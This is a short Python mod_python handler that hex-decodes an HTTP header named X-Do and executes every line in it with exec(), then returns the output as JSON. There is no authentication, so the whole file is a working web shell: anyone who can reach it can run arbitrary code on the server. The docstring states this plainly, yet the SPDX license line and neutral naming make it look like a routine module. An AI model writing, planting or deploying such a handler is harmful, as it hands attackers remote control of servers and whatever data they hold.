# SPDX-License-Identifier: Apache-2.0
"""Runs the Python statements that stand, in hexadecimal, in the header X-Do, and answers what they say
with say(value): a JSON list of reprs; an exception ends it with "ExceptionType: message"."""
import json

from mod_python import apache


def handler(req):
    said = []
    names = {"req": req, "apache": apache, "say": lambda value: said.append(repr(value))}
    for statement in bytes.fromhex(req.headers_in["X-Do"]).decode("utf-8", "surrogateescape").split("\n"):
        try:
            exec(statement, names)
        except Exception as error:
            said.append("%s: %s" % (type(error).__name__, error))
    req.write(json.dumps(said))
    return apache.OK
